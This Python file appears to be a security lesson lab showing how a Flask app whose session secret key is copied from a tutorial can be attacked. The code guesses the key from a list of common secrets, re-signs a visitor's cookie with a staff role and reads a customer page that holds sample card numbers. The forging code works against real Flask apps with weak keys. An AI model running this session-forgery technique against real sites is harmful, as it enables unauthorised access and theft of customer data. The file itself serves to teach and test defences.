"""A thief guesses the key of the app, and signs a session that makes him one of the staff.

The team has copied its key from a tutorial. It has also added a page, /customers, for visitors whose session says
that they are staff. The thief visits the site once, and tries the keys of all tutorials against his own cookie.
"""

from __future__ import annotations

import contextlib

from flask import Flask, session
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import BadSignature, TimedSerializer

from app.security.errors import refuse
from app.visitors import public
from tools.lessons.lab import Lab

KEY = "this-is-my-secret-key-for-flask"
WORDLIST = ("dev", "secret", "changeme", "password", "flask", "you-will-never-guess", "super-secret", KEY, "mysecret")


@public
def customers() -> str:
    """Show the customers to the staff."""
    if session.get("role") != "staff":
        refuse(403, "This page is for the staff.")
    return "Ann Miller, card 4929 1234 5678 9012\nBob Jones, card 4485 9876 5432 1098"


def signer(key: str) -> TimedSerializer:
    """Return the serializer that signs Flask's sessions with this key."""
    (app := Flask("of the thief")).secret_key = key
    return SecureCookieSessionInterface().get_signing_serializer(app)  # type: ignore[return-value]


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    if refusal := lab.refuses(SECRET_KEY=KEY):
        print(f"With SECRET_KEY={KEY}, the app does not start:\n{refusal}")
        return ""
    with lab.serve({"/customers": customers}, SECRET_KEY=KEY) as shop:
        thief = shop.visitor()
        print(f"The thief opens /customers, which answers {thief.get('/customers').status}: it is for the staff.")
        thief.get("/")
        cookie = thief.cookies["__Host-session"].partition(";")[0].partition("=")[2]
        for word in WORDLIST:
            with contextlib.suppress(BadSignature):
                content = signer(word).loads(cookie)
                print(f"His cookie is signed with the key {word!r}. It says: {content}")
                print("He adds 'role': 'staff', signs it again, and opens /customers.")
                forged = signer(word).dumps({**content, "role": "staff"})
                thief.cookies["__Host-session"] = f"__Host-session={forged!s}"
        answer = thief.get("/customers")
    return f"The thief has the customers:\n{answer.text}" if answer.status == 200 else ""
